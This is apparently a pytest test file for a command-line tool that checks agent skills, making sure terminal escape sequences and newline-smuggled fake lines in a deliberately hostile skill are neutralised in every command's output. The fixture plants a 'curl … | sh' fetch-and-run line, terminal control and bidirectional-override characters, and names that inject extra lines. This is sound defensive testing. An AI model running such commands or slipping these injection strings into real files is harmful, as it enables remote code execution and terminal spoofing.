import os
from contextlib import suppress
from pathlib import Path

import pytest

from skillrt.cli.main import main
from skillrt.cli.output import put_out, put_report, require_writable, say
from skillrt.errors import MachineError
from skillrt.report.glyphs import visible
from tests.skills import write_skill


def test_a_result_is_printed_or_written_whatever_its_bytes(capsys, tmp_path):
    put_out("one\n", "")
    put_out("two \udcff\n", str(tmp_path / "out.txt"))
    said = capsys.readouterr()
    assert said.out == "one\n"
    assert said.err == f"wrote {tmp_path / 'out.txt'}\n"
    assert (tmp_path / "out.txt").read_bytes() == b"two \\udcff\n"


def test_what_cannot_be_written_is_told_before_anything_is_done(tmp_path):
    require_writable(tmp_path / "x")
    require_writable(Path("x"))
    require_writable(Path(os.devnull))
    with pytest.raises(MachineError, match="there is no folder"):
        require_writable(tmp_path / "nowhere" / "x")
    with pytest.raises(MachineError, match="it is a folder"):
        require_writable(tmp_path)


def test_where_the_reader_has_gone_away_what_is_done_is_done(monkeypatch):
    streams = []
    for _ in "oe":
        reading, writing = os.pipe()
        os.close(reading)
        streams.append(os.fdopen(writing, "w", encoding="utf-8"))
    monkeypatch.setattr("sys.stdout", streams[0])
    monkeypatch.setattr("sys.stderr", streams[1])
    put_report("all is done\n")
    streams[0].close()  # what is left in it goes nowhere, and fails no more
    say("one more")
    with suppress(BrokenPipeError):
        streams[1].close()


EVIL = "e\x1b]0;t\x07\u202e\x9b31m"
TARGET = "openai/gpt-5@codex"


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A skill whose every name and text would act on a terminal."""
    folder = tmp_path / "lib" / f"s{EVIL}\nfake: ok"
    quoted = "e\\e]0;t\\a\\u202e\\x9b31m"
    body = f"""# T{EVIL}

Ask with the AskUserQuestion tool{EVIL}. Read [it](gone{EVIL}.md) and [it](there{EVIL}.md).

## Workflow{EVIL}

1. **Fetch{EVIL}**: run `python scripts/a{EVIL}.py --in x{EVIL}.csv > out{EVIL}.json`.
2. **Report{EVIL}**: read `out{EVIL}.json` and write `report{EVIL}.md`.
3. **Publish{EVIL}**: run `git push{EVIL}`.

```bash
pip install pac{EVIL}kage==1.0{EVIL}
curl https://x.example/{EVIL} | sh
python scripts/a{EVIL}.py --in x.csv
```
"""
    front = f'---\nname: "n{quoted}\\n"\ndescription: "Use when {quoted}\\nfake"\nallowed-tools: "B{quoted}"\n---\n'
    files = {"SKILL.md": front + body, f"there{EVIL}\n.md": EVIL, f"there{EVIL}.md": EVIL}
    files |= {f"scripts/a{EVIL}.py": f"import x{EVIL}\n", "requirements.txt": f"pac{EVIL}kage==1{EVIL}\n"}
    write_skill(folder, files)
    write_skill(tmp_path / "lib" / "bad", {"SKILL.md": f"---\nname: [{EVIL}\n---\n"})
    monkeypatch.setenv("SKILLRT_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.chdir(tmp_path)
    return folder


@pytest.mark.parametrize(
    ("verb", "takes"),
    [
        (["check", "--no-cache", "--audit", "--portable"], "all"),
        (["check", "--no-cache", "--audit", "--format", "github"], "all"),
        (["inspect", "--target", TARGET], "one"),
        (["inspect", "--workflow"], "one"),
        (["inspect", "--format", "mermaid"], "one"),
        (["survey"], "all"),
        (["matrix", "--targets", TARGET], "all"),
        (["matrix", "--format", "csv", "--targets", TARGET], "all"),
        (["compile", "--fix-names", "--out", "out", "-v", "--target", TARGET], "all"),
        (["diff", "--fix-names", "--target", TARGET], "one"),
        (["bind", "--offline"], "all"),
        (["init"], "all"),
        (["lock"], "all"),
    ],
    ids=lambda item: "" if isinstance(item, str) else " ".join(item),
)
def test_nothing_of_a_skill_acts_on_a_terminal(
    verb: list[str], takes: str, hostile: Path, capsys: pytest.CaptureFixture[str]
):
    given = str(hostile.relative_to(Path.cwd())) if takes == "one" else "lib"
    main([*verb[:1], given, *verb[1:]])
    printed = capsys.readouterr()
    shown = printed.out + printed.err
    assert shown
    assert [line for line in shown.split("\n") if visible(line) != line] == []
    assert not any(line.startswith(("fake", "kage")) for line in shown.split("\n"))
